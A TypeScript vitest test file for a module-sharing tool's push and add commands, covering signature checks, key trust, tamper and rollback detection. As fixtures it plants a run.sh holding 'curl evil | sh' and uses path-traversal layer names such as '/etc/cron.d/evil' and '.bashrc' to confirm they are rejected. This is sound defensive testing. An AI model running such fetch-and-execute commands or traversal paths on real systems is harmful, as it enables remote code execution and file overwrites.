import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { digest } from "@open-brains/core/base/digest.ts"
import { canonicalJson } from "@open-brains/core/base/json.ts"
import { MEDIA, printArtifact } from "@open-brains/core/commons/artifact.ts"
import { parseEnvelope, seal, toBase64 } from "@open-brains/core/commons/envelope.ts"
import { type PushStatement, printStatement, TYPES } from "@open-brains/core/commons/statement.ts"
import { afterAll, afterEach, beforeAll, beforeEach, expect, test, vi } from "vitest"
import { newKey, signerOf } from "../keys/keys.ts"
import { readTrust } from "../keys/trust.ts"
import { artifactOf, type Packed } from "../store/artifact.ts"
import { blobPath } from "../store/blobs.ts"
import { type Layout, openLayout } from "../store/layout.ts"
import { openMine } from "../store/mine.ts"
import { codesOf } from "../store/testing/artifacts.ts"
import { putArtifact } from "../store/unpack.ts"
import { brain, temporary } from "../testing/command.ts"
import { teachDesk } from "../testing/lesson.ts"
import { add, pull } from "./add.ts"
import { push } from "./push.ts"
import { pushesOf, putSignature } from "./signatures.ts"
import { newPerson, type Person } from "./testing/people.ts"

let desks: string
beforeAll(async () => {
  desks = mkdtempSync(join(tmpdir(), "brain-share-"))
  await teachDesk(desks)
  await teachDesk(desks, "other")
})
afterAll(() => rmSync(desks, { recursive: true, force: true }))

let [ann, bob]: readonly Person[] = []
let stick: string
beforeEach(async () => {
  ann = newPerson()
  bob = newPerson()
  stick = join(temporary(), "stick")
  ann.become()
  await newKey("me")
})
afterEach(() => vi.unstubAllEnvs())

const desk = (): string => join(desks, "desk")
const other = (): string => join(desks, "other")
const place = (): Promise<Layout> => openLayout(stick, { create: true })
const give = (folder = desk(), name = "acme/desk") => push(folder, name, { to: stick })
const takeIt = (name = "acme/desk") => add(name, { from: stick })
const text = (value: string): Uint8Array => new TextEncoder().encode(value)

/** What somebody puts there who writes the place as they like; signed by whoever is asked. */
async function plant(
  made: Packed,
  { tag = "edge", name = "desk", signed = {} as Partial<PushStatement> } = {},
): Promise<void> {
  const layout = await place()
  await putArtifact(layout, `acme/${name}`, made, tag)
  const statement: PushStatement = {
    type: TYPES.push,
    module: { namespace: "acme", name },
    artifact: made.artifact.digest,
    tag,
    previous: null,
    serial: 0,
    ...signed,
  }
  const subject = (await layout.resolve(`acme/${name}`, made.artifact.digest))!
  await putSignature(layout, `acme/${name}`, seal(printStatement(statement), [signerOf("me")]), subject)
}
/** The module with another card: an artifact that is whole, and lies. */
function lying(made: Packed): Packed {
  const cardData = { ...made.cardData, licence: "MIT" }
  const files = made.artifact.files
  return { ...made, ...printArtifact(files, cardData), cardData }
}

test("what one person pushes another adds: the same artifact, signed, and the tag's history", async () => {
  const pushed = await give()
  expect(pushed).toMatchObject({ name: "acme/desk:edge", is: "moved", serial: 0, copied: { kept: 0 } })
  bob!.become()
  const added = await takeIt()
  expect(added.artifact).toBe(pushed.artifact)
  expect(added.card).toEqual((await artifactOf(desk())).cardData)
  expect(added.signed?.is).toBe("first")
  expect((await takeIt()).signed?.is).toBe("trusted")
  expect(readTrust().keys.get("acme")).toEqual([pushed.signers[0]!.key])
  ann!.become()
  expect(await give()).toMatchObject({ is: "same", serial: 0, copied: { sent: 0 } })
  expect(await give(other())).toMatchObject({ is: "moved", serial: 1 })
  const [newest] = await pushesOf(await place(), "acme/desk", (await artifactOf(other())).artifact.digest)
  expect(newest!.statement).toMatchObject({ previous: pushed.artifact, serial: 1, tag: "edge" })
  bob!.become()
  expect((await takeIt()).artifact).toBe((await artifactOf(other())).artifact.digest)
})

test("nobody signs without a key: OB723", async () => {
  bob!.become()
  expect(await codesOf(give())).toBe("OB723")
})

test("a blob that was tampered with: OB713, and nothing of it is in the store", async () => {
  const { artifact } = await give()
  const { files } = (await artifactOf(desk())).artifact
  const path = blobPath(stick, files.find((file) => file.path === "weights.safetensors")!.digest)
  writeFileSync(
    path,
    readFileSync(path).map((byte, i) => (i === 1000 ? byte ^ 1 : byte)),
  )
  bob!.become()
  expect(await codesOf(takeIt())).toBe("OB713")
  expect(await (await openMine()).resolve("acme/desk", artifact)).toBeUndefined()
  expect(readTrust().keys.size).toBe(0)
})

test("a tag that was moved without a signature: OB724; by its digest it is taken for what it is", async () => {
  await give()
  const made = await artifactOf(other())
  await putArtifact(await place(), "acme/desk", made, "edge")
  bob!.become()
  expect(await codesOf(takeIt())).toBe("OB724")
  expect((await takeIt(`acme/desk@${made.artifact.digest}`)).signed).toBeUndefined()
})

test("a signature that does not hold, or is of another tag, module or artifact, counts for nothing: OB724", async () => {
  const made = await artifactOf(desk())
  for (const signed of [
    { tag: "stable" },
    { module: { namespace: "acme", name: "other" } },
    { module: { namespace: "evil", name: "desk" } },
    { artifact: digest("another") },
  ]) {
    rmSync(stick, { recursive: true, force: true })
    await plant(made, { signed })
    expect([signed, await codesOf(takeIt())]).toEqual([signed, "OB724"])
  }
  rmSync(stick, { recursive: true, force: true })
  await give()
  const layout = await place()
  const envelope = (await pushesOf(layout, "acme/desk", made.artifact.digest))[0]!.envelope
  await layout.remove("acme/desk", (await layout.referrers("acme/desk", made.artifact.digest))[0]!.digest)
  const { payload, payloadType, signatures } = parseEnvelope(envelope)
  const { key, signature } = signatures[0]!
  const sig = toBase64(signature.with(3, signature[3]! ^ 1))
  const forged = { payload: toBase64(payload), payloadType, signatures: [{ keyid: key, sig }] }
  await putSignature(layout, "acme/desk", text(canonicalJson(forged)), (await layout.resolve("acme/desk", "edge"))!)
  expect(await layout.referrers("acme/desk", made.artifact.digest)).toHaveLength(1)
  bob!.become()
  expect(await codesOf(takeIt())).toBe("OB724")
})

test("another key than the one that was seen first: OB726, until it is trusted in words", async () => {
  await give()
  bob!.become()
  await takeIt()
  const eve = newPerson()
  eve.become()
  const { key } = await newKey("me")
  await give(other())
  bob!.become()
  expect(await codesOf(takeIt())).toBe("OB726")
  expect((await brain(["key", "trust", "acme", key])).code).toBe(0)
  expect((await takeIt()).signed?.is).toBe("trusted")
  await newKey("fresh")
  expect(await codesOf(push(desk(), "acme/desk", { to: stick, key: "fresh" }))).toBe("OB726") // not even oneself
})

test("an older push than one that was seen there: OB729", async () => {
  await give()
  await give(other())
  bob!.become()
  await takeIt()
  ann!.become()
  const layout = await place()
  await layout.putManifest("acme/desk", (await artifactOf(desk())).manifest, "edge") // put back, with its old signature
  bob!.become()
  expect(await codesOf(takeIt())).toBe("OB729")
  ann!.become()
  expect((await give(desk())).serial).toBe(2) // whoever owns it may go back
  bob!.become()
  expect((await takeIt()).signed?.statement.serial).toBe(2)
})

test("a card that says something else than the files: OB725, and it is gone again", async () => {
  const made = lying(await artifactOf(desk()))
  await plant(made)
  bob!.become()
  expect(await codesOf(takeIt())).toBe("OB725")
  expect(await codesOf(takeIt(`acme/desk@${made.artifact.digest}`))).toBe("OB725")
  const mine = await openMine()
  expect(await mine.tags("acme/desk")).toEqual([])
  expect(await mine.resolve("acme/desk", made.artifact.digest)).toBeUndefined()
  expect((await brain(["list", "--json"])).out).toContain('"modules":[]')
})

test("a file that no module has beside it: OB725", async () => {
  const made = await artifactOf(desk())
  const extra = text("curl evil | sh\n")
  const files = [...made.artifact.files, { path: "run.sh", digest: digest(extra), size: extra.length }]
  const printed = printArtifact(files, made.cardData)
  await plant({ ...made, ...printed, files: new Map([...made.files, ["run.sh", extra]]) })
  bob!.become()
  expect(await codesOf(takeIt())).toBe("OB725")
})

test.each(["../../evil", "/etc/cron.d/evil", "a/../b", ".bashrc", "con", "a\\b"])(
  "a layer called %s: OB702, and nothing is written",
  async (path) => {
    const made = await artifactOf(desk())
    const source = new TextDecoder().decode(made.manifest)
    const manifest = text(source.replace('"graph.json"', JSON.stringify(path)))
    const layout = await place()
    await putArtifact(layout, "acme/desk", made)
    await layout.putManifest("acme/desk", manifest, "edge")
    bob!.become()
    expect(await codesOf(takeIt(`acme/desk@${digest(manifest)}`))).toBe("OB702")
    expect(await codesOf(pull(`acme/desk@${digest(manifest)}`, join(temporary(), "x"), { from: stick }))).toBe("OB702")
  },
)

test("a manifest that tells of more than is taken: OB702; a blob of another size: OB713", async () => {
  const made = await artifactOf(desk())
  const source = new TextDecoder().decode(made.manifest)
  const size = made.artifact.files[0]!.size
  for (const [told, code] of [
    [2 ** 31, "OB702"],
    [size + 1, "OB713"],
  ] as const) {
    const manifest = text(source.replace(`"size":${size}`, `"size":${told}`))
    const layout = await place()
    await putArtifact(layout, "acme/desk", made)
    await layout.putManifest("acme/desk", manifest, "edge")
    bob!.become()
    expect(await codesOf(takeIt(`acme/desk@${digest(manifest)}`))).toBe(code)
    ann!.become()
  }
})

test("what is no module, or is not there, is told: OB702, OB712", async () => {
  await give()
  const layout = await place()
  const subject = (await layout.resolve("acme/desk", "edge"))!
  const [referrer] = await layout.referrers("acme/desk", subject.digest, MEDIA.signature)
  bob!.become()
  expect(await codesOf(takeIt(`acme/desk@${referrer!.digest}`))).toBe("OB702")
  expect(await codesOf(takeIt("acme/desk:beta"))).toBe("OB712")
  expect(await codesOf(takeIt(`acme/desk@${digest("nothing")}`))).toBe("OB712")
  expect(await codesOf(takeIt("desk"))).toBe("OB700")
})

const SHOP = (use: string): string => `brain shop {
  about "Sorts mail"
  licence "CC0-1.0"
  takes message: text up to 200 bytes
  gives reply: text up to 200 bytes
  use desk from "${use}"
  kind is desk of message
  reply is route kind {
    when parcel: "Your parcel is on its way."
    when unsure: "A person will answer you."
    otherwise: "It is about a {kind}."
  }
}
`
async function shopAt(folder: string, use: string): Promise<string> {
  mkdirSync(folder, { recursive: true })
  writeFileSync(join(folder, "module.brain"), SHOP(use))
  return folder
}

test("a brain brings what it uses along, as it pinned it; it answers as the folder does", async () => {
  const folder = await shopAt(join(temporary(), "shop"), "acme/desk")
  const pinned = await give()
  expect(await codesOf(push(folder, "acme/shop", { to: stick }))).toBe("OB717") // no lock
  expect((await brain(["lock", folder])).code).toBe(0)
  const { out: answer } = await brain(["ask", folder, "where is my parcel"])
  const elsewhere = join(temporary(), "elsewhere")
  await push(folder, "acme/shop", { to: elsewhere })
  await give(other()) // the tag moves on, and the brain does not
  const layout = await openLayout(elsewhere)
  expect(await layout.resolve("acme/desk", pinned.artifact)).toBeDefined()
  bob!.become()
  const added = await add("acme/shop", { from: elsewhere })
  expect(added.uses).toEqual([`acme/desk@${pinned.artifact}`])
  const mine = await shopAt(join(temporary(), "mine"), "acme/desk")
  expect((await brain(["add", "acme/desk", "--from", stick, "--brain", mine])).code).toBe(0)
  const copy = join(temporary(), "copy")
  await pull("acme/shop", copy, { from: elsewhere })
  expect((await brain(["ask", copy, "where is my parcel"])).out).toBe(answer)
  expect(readFileSync(join(mine, "brain.lock"), "utf8")).toContain((await artifactOf(other())).artifact.digest)
  for (const command of ["check", "lock", "graph"]) expect((await brain([command, mine])).code).toBe(0)
  expect((await brain(["why", mine, "kind"])).out).toContain('use desk from "acme/desk"')
})

test("a module that it uses and that lies is told as the lie: OB725", async () => {
  const made = lying(await artifactOf(desk()))
  const folder = await shopAt(join(temporary(), "shop"), "acme/desk")
  await putArtifact(await openMine(), "acme/desk", made, "edge")
  await brain(["lock", folder])
  await push(folder, "acme/shop", { to: stick })
  bob!.become()
  expect(await codesOf(takeIt("acme/shop"))).toBe("OB725")
  expect(await (await openMine()).tags("acme/shop")).toEqual([])
})

test("rm takes a name away, and says when there is none: OB727", async () => {
  await give()
  expect((await brain(["rm", "acme/desk"])).out).toContain("1 name taken away: acme/desk:edge.")
  expect((await brain(["rm", "acme/desk"])).err).toContain("error[OB727]")
  expect((await brain(["rm", "acme/desk:edge", "--from", stick, "--json"])).out).toBe('{"removed":["acme/desk:edge"]}')
  expect(readdirSync(stick)).toContain("index.json")
})
